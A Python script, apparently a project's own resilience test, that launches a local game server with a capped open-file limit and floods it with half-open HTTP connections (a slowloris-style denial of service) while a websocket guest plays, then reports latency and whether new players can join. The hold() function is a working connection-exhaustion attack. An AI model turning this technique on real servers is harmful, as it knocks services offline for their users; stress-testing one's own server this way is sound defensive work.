"""Open connections that never send a complete request, until the server may open no more files, while a guest plays
from another address.

python -m tools.attacks.half_open --open-files 1024 --connections 1500 --seconds 30
"""

from __future__ import annotations

import argparse
import asyncio
import socket
import sys
import time
from contextlib import suppress

from websockets.exceptions import WebSocketException

from tools.attacks.victim import Guest, Target, answer_times, connect_from_elsewhere, summary, victim


def hold(served: Target, count: int) -> list[socket.socket]:
    """Open up to `count` connections, send the beginning of a request on each, and return those that succeeded."""
    held = []
    for _connection in range(count):
        with suppress(OSError):
            line = connect_from_elsewhere(served, timeout=1)
            line.sendall(b"GET / HTTP/1.1\r\nHost: loc")
            held.append(line)
    return held


def is_open(line: socket.socket) -> bool:
    line.setblocking(False)
    try:
        return line.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--open-files", type=int, default=1024, help="how many the server may have open")
    parser.add_argument("--connections", type=int, default=1500)
    parser.add_argument("--seconds", type=float, default=30.0)
    options = parser.parse_args()
    with victim(options.open_files) as served:
        try:
            ana = Guest(served.address)
            table = ana.open_table()
        except OSError as error:
            sys.exit(f"a server with {options.open_files} open files does not answer: {error}; try more --open-files")

        async def play() -> str:
            loop = asyncio.get_running_loop()
            holding = loop.run_in_executor(None, hold, served, options.connections)
            try:
                return summary(await answer_times(served, ana, table, options.seconds))
            except (OSError, WebSocketException) as error:
                return f"cut off: {type(error).__name__} {error}"
            finally:
                lines.extend(await holding)

        lines: list[socket.socket] = []
        played = asyncio.run(play())
        still = sum(map(is_open, lines))
        print(f"the player: {played}")
        print(f"{len(lines)} connections began, {still} are still open after {options.seconds:.0f} s")
        began = time.perf_counter()
        try:
            Guest(served.address)
            print(f"a new guest came in {(time.perf_counter() - began) * 1000:.0f} ms")
        except OSError as error:
            print(f"a new guest could not come: {error}")
        print(f"{served.log_lines:,} lines in the log; {served.mebibytes:.0f} MiB")
        for line in lines:
            line.close()


if __name__ == "__main__":
    main()
